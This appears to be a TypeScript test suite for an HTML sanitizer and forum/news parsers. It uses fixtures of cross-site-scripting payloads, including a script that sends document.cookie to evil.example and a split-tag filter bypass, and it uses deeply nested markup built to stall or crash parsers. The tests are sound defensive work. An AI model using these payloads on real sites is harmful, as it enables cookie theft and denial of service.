import { parseHtmlDetail, parseHtmlList } from '../../src/connectors/html-list-parse';
import { parsePttArticle, parsePttIndex } from '../../src/connectors/ptt-parse';
import { parseFeed } from '../../src/connectors/parse-feed';
import { FeedParseError } from '../../src/core/errors';
import { boundHtml, MAX_OPEN_ELEMENTS } from '../../src/text/bounded-html';
import { htmlToText } from '../../src/text/html-to-text';
import { toMention } from '../../src/text/to-mention';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';

/**
 * HTML that attacks the reader: scripts and event handlers that must never reach a mention, and
 * markup built to make the parser slow (unclosed formatting elements, absurd nesting) or to
 * overflow the stack. Plain text comes out, in bounded time.
 */

const NOW = Date.parse('2026-03-16T06:00:00Z');

/** A post body full of active content, as forums and feeds carry it. */
const ACTIVE = `<p>範例診所 回應</p>
<script>fetch('https://evil.example/?c='+document.cookie)</script>
<img src=x onerror="alert(1)"><svg onload=alert(2)><circle/></svg>
<a href="javascript:alert(3)" onclick="alert(4)">點我</a>
<iframe src="https://evil.example/frame"></iframe><object data="x.swf"></object><embed src="x.swf">
<style>body{background:url(javascript:alert(5))}</style>
<form action="https://evil.example"><input name=q><button formaction="javascript:alert(6)">送出</button></form>
<noscript><img src=x onerror=alert(7)></noscript>
<scr<script>ipt>alert(8)</script>
<div style="x:expression(alert(9))" onmouseover=alert(10)>病患家屬表示不滿</div>
<!-- <script>alert(11)</script> -->
<p>最後一段</p>`;

/** Markup that is no longer markup: what a reader of the text would see. */
const MARKUP = /<\s*\/?\s*(script|img|svg|iframe|object|embed|style|form|input|button|a|div|p)\b|\bon[a-z]+\s*=|javascript:/i;

describe('HTML with scripts and event handlers', () => {
  it('comes out as plain text with none of it, the article text kept', () => {
    const text = htmlToText(ACTIVE);
    expect(text).toContain('範例診所 回應');
    expect(text).toContain('病患家屬表示不滿');
    expect(text).toContain('最後一段');
    expect(text).not.toMatch(MARKUP);
    expect(text).not.toMatch(/document\.cookie|evil\.example|expression\(/);
    // Script bodies, handlers, styles and comments are gone. The split tag `<scr<script>ipt>` is
    // not a script to any HTML parser: its `ipt>alert(8)` stays visible, inert text, as a browser shows it.
    for (const n of [1, 2, 3, 4, 5, 6, 7, 9, 10, 11]) expect(text).not.toContain(`alert(${n})`);
  });

  it('stays plain text when the markup was escaped twice by the feed (&lt;script&gt;)', () => {
    const twice = ACTIVE.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
    expect(htmlToText(twice)).not.toMatch(MARKUP);
  });

  it('never reaches a stored mention: body, title and author through the feed path', async () => {
    const xml = `<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>
      <item><title>範例診所 &lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(2)&gt;</title>
      <link>https://news.example.tw/a/1</link><dc:creator xmlns:dc="http://purl.org/dc/elements/1.1/">&lt;b onmouseover=alert(3)&gt;記者&lt;/b&gt;</dc:creator>
      <description><![CDATA[${ACTIVE}]]></description></item></channel></rss>`;
    const { items } = await parseFeed(xml, 'https://news.example.tw/rss', NOW);
    const m = toMention(items[0]!, { connector: 'news', sourceType: 'news' }, NOW);
    for (const field of [m.title, m.body, m.author ?? '']) expect(field).not.toMatch(MARKUP);
    expect(m.body).toContain('病患家屬表示不滿');
    expect(m.author).toBe('記者');
  });

  it('never reaches what the html connector extracts from a list or a detail page', () => {
    const list = `<ul>${Array.from({ length: 3 }, (_, i) => `<li class="t"><a href="/t/${i}" onclick="alert(1)">範例診所 第 ${i} 篇<script>alert(2)</script></a><span class="d">2026-03-16 10:0${i}</span></li>`).join('')}</ul>`;
    const parsed = parseHtmlList(list, 'https://forum.example.tw/list', { item: 'li.t', link: 'a', title: 'a', date: 'span.d' }, NOW);
    expect(parsed.items.map((i) => i.title)).toEqual(['範例診所 第 0 篇', '範例診所 第 1 篇', '範例診所 第 2 篇']);
    const detail = parseHtmlDetail(`<html><body><article>${ACTIVE}</article></body></html>`, 'https://forum.example.tw/t/0', { body: 'article' }, NOW);
    const m = toMention({ url: 'https://forum.example.tw/t/0', title: 't', html: detail.html }, { connector: 'forum', sourceType: 'forum' }, NOW);
    expect(m.body).toContain('病患家屬表示不滿');
    expect(m.body).not.toMatch(MARKUP);
  });
});

describe('HTML built to stall or crash the parser', () => {
  const cases: Array<[string, string]> = [
    ['100,000 nested <div>s', `${'<div>'.repeat(100_000)}範例診所${'</div>'.repeat(100_000)}`],
    ['100,000 unclosed <b> with distinct attributes (parse5 took 75 s for 20,000)', `${Array.from({ length: 100_000 }, (_, i) => `<b x=${i}>`).join('')}範例診所`],
    ['100,000 <div/> (not self-closing in HTML)', `${'<div/>'.repeat(100_000)}範例診所`],
    ['50,000 nested lists', `${'<li><ul>'.repeat(50_000)}範例診所`],
    ['30,000 nested tables', `${'<table><tr><td>'.repeat(30_000)}範例診所`],
    ['100,000 unclosed <script> openings', `範例診所${'<script>'.repeat(100_000)}`],
    ['an unclosed comment before 100,000 tags', `範例診所<!--${'<div>'.repeat(100_000)}`],
    ['a quote trick hiding 50,000 tags inside an attribute', `範例診所<b x='>${Array.from({ length: 50_000 }, (_, i) => `<b x=${i}>`).join('')}`],
  ];

  it.each(cases)('reads %s in bounded time, without a stack overflow', (_what, html) => {
    const t0 = performance.now();
    const text = htmlToText(html);
    expect(performance.now() - t0).toBeLessThan(3_000);
    expect(text).not.toMatch(/<|>/);
  });

  it.each(cases.slice(0, 3))('keeps the html connector and the PTT parser just as bounded: %s', (_what, html) => {
    const t0 = performance.now();
    expect(() => parseHtmlList(`<html><body>${html}<ul><li class="t"><a href="/1">一</a></li></ul></body></html>`, 'https://forum.example.tw/', { item: 'li.t', link: 'a' }, NOW)).not.toThrow(RangeError);
    expect(() => parsePttIndex(`<div class="r-list-container">${html}</div>`, 'https://www.ptt.cc/bbs/x/index.html')).not.toThrow(RangeError);
    expect(() => parsePttArticle(`<div id="main-content">${html}</div>`, 'https://www.ptt.cc/bbs/x/M.1.A.html')).not.toThrow(RangeError);
    expect(performance.now() - t0).toBeLessThan(6_000);
  });

  it('drops only markup beyond the limits: the list items after a hostile block are still found', () => {
    const html = `<html><body>${'<div>'.repeat(5_000)}${'</div>'.repeat(5_000)}<ul><li class="t"><a href="/1">範例診所 一</a></li><li class="t"><a href="/2">範例診所 二</a></li></ul></body></html>`;
    const parsed = parseHtmlList(html, 'https://forum.example.tw/', { item: 'li.t', link: 'a' }, NOW);
    expect(parsed.items.map((i) => i.title)).toEqual(['範例診所 一', '範例診所 二']);
  });

  it('changes no real page: every committed HTML fixture passes through unchanged', () => {
    const dirs = ['html', 'ptt', 'dcard'].map((d) => join(__dirname, '..', 'fixtures', d));
    let pages = 0;
    for (const dir of dirs) {
      for (const f of readdirSync(dir).filter((x) => x.endsWith('.html'))) {
        const page = readFileSync(join(dir, f), 'latin1');
        expect([f, boundHtml(page) === page]).toEqual([f, true]);
        pages++;
      }
    }
    expect(pages).toBeGreaterThan(5);
    // And a large ordinary page with deep but real nesting (60 levels, 2,000 list items).
    const page = `${'<div class="wrap">'.repeat(60)}<ul>${'<li><a href="/x"><b>標題</b></a> <span>2026-03-16</span></li>'.repeat(2_000)}</ul>${'</div>'.repeat(60)}`;
    expect(boundHtml(page)).toBe(page);
    expect(MAX_OPEN_ELEMENTS).toBeGreaterThan(60);
  });

  it('reports a list page it cannot read as a typed error, not a crash', () => {
    expect(() => parseHtmlList('<<<>>>'.repeat(10_000), 'https://forum.example.tw/', { item: 'li.t', link: 'a' }, NOW)).toThrow(FeedParseError);
  });
});
